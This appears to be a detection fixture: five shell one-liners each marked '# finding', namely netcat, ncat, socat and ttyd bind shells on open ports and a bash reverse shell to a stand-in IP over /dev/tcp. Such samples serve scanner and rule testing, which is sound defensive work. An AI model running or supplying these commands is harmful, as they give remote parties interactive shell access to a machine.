nc -l -p 4444 -e /bin/bash # finding
ncat -lk 9000 --sh-exec "/bin/sh -i" # finding
socat TCP-LISTEN:2323,reuseaddr,fork EXEC:/bin/bash,pty,stderr # finding
ttyd -p 7681 bash # finding
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # finding
